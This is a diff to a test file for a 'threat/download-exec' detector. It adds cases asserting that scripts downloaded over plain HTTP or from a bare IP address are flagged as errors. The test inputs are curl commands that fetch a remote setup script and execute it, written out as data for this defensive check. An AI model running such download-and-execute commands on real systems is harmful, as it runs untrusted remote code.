@@ -118,6 +118,9 @@ describe('threat/download-exec', () => {
     expect(threats(fence('bash', 'curl -fsSL https://get.example-tool.dev/setup.sh -o setup.sh\nsed -n "1,200p" setup.sh\nchmod +x setup.sh\n./setup.sh'))).toEqual(['threat/download-exec 11:1 warning']);
     expect(threats(fence('bash', 'dir=$(mktemp -d)\ncurl -fsSL https://get.example-tool.dev/setup.sh -o "$dir/setup.sh"\nsh "$dir/setup.sh"\nless "$dir/setup.sh"'))).toEqual(['threat/download-exec 10:1 error']);
     expect(threats(fence('bash', 'curl -fsSL https://get.example-tool.dev/setup.sh -o setup.sh\nless other.sh\nchmod +x setup.sh\n./setup.sh'))).toEqual(['threat/download-exec 11:1 error']);
+    // Shown or not, a script from a bare address or over plain HTTP stays an error.
+    expect(threats(fence('bash', 'dir=$(mktemp -d)\ncurl -fsSL http://203.0.113.7/setup.sh -o "$dir/setup.sh"\nless "$dir/setup.sh"\nsh "$dir/setup.sh"'))).toEqual(['threat/download-exec 11:1 error']);
+    expect(threats(fence('bash', 'curl -fsSL http://get.example-tool.dev/setup.sh -o setup.sh\ncat setup.sh\nchmod +x setup.sh\n./setup.sh'))).toEqual(['threat/download-exec 11:1 error']);
   });
   it('leaves JSON pretty-printing alone', () => {
     expect(threats(fence('bash', 'curl -s https://api.example.net/v1/items | python3 -m json.tool'))).toEqual([]);
